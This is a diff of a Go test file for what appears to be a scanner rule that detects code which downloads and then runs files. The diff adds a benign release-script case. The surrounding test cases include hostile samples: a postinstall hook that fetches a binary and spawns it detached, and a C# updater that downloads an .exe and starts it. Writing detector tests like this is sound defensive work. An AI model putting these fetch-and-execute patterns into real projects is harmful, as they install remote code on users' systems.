@@ -21,6 +21,7 @@ func TestRules12_FetchThenRun(t *testing.T) {
 		{"node fetch then spawn", ed("scripts/postinstall.mjs", "export async function run() {", "export async function run() {\n  const r = await fetch('https://dl.example.net/native.bin');\n  await writeFile('/tmp/n', Buffer.from(await r.arrayBuffer()));\n  spawn('/tmp/n', { detached: true });"), remote},
 		{"csharp DownloadFile then Process.Start", ed("src/Updater/Bootstrap.cs", "    static void Init() {", "    static void Init() {\n        new WebClient().DownloadFile(\"https://upd.example.net/u.exe\", path);\n        Process.Start(path);"), remote},
 
+		{"benign release script fetches and runs git", ed("scripts/release.mjs", "export async function run() {", "export async function run() {\n  const r = await fetch('https://api.github.com/repos/acme/app/releases/latest');\n  const tag = (await r.json()).tag_name;\n  console.log('latest', tag);\n  spawnSync('git', ['fetch', '--tags']);"), none},
 		{"benign download only", ed("tools/fetch_data.py", "def main():", "def main():\n    urlretrieve(\"https://data.example.org/cities.csv\", \"data/cities.csv\")"), none},
 		{"benign run only", ed("tools/build.py", "def main():", "def main():\n    subprocess.run([\"go\", \"build\", \"./...\"], check=True)"), none},
 		{"benign fetch of a local path then spawn", ed("scripts/dev.mjs", "export async function run() {", "export async function run() {\n  const cfg = await fetch('/api/config');\n  spawn('npm', ['run', 'dev']);"), none},
